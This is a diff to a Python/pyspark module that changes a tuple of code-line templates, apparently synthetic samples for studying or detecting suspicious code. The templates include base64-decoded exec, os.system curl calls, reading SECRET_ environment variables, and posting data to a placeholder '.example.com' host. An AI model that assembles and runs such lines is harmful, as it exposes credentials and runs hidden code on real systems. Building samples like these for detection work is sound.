@@ -12,11 +12,11 @@ from pyspark.sql import functions as F
 from ..functions.text import lines_of
 from ..operators.lines import file_lines
 
-#: {w}: the line's first word of letters a-z, or x.
+#: {w}: the line's first word of letters a-z, or x. The line after statement i is statement i + 3: calls of 1 and 12 go on in the next line.
 STATEMENTS = (
-    "import os, base64, {w}", "data = base64.b64decode('{w}')", "exec(data)  # {w}", "os.system('curl http://{w}')", "token = os.environ['SECRET_{w}']", "requests.post('http://{w}.example.com', data)",
+    "import os, base64, {w}", "data = base64.b64decode", "exec(data)  # {w}", "os.system('curl http://{w}')", "('{w}'); token = os.environ['SECRET_{w}']", "requests.post('http://{w}.example.com', data)",
     "from subprocess import Popen, {w}", "x = getattr(os, 'system')", "sock.connect(('93.184.216.34', 80)); host = '10.1.2.3'", "ip = 'http://8.8.8.8/{w}'", "sys.exit(1)", "# comment {w}",
-    "atexit.register({w})", "m = __import__('{w}')", "eval(compile({w}, 'f', 'exec'))", "requests.get('https://pypi.org/{w}')",
+    "atexit.register", "m = __import__('{w}')", "eval(compile({w}, 'f', 'exec'))", "({w}); requests.get('https://pypi.org/{w}')",
 )
 
 SQL_LINES = r"""
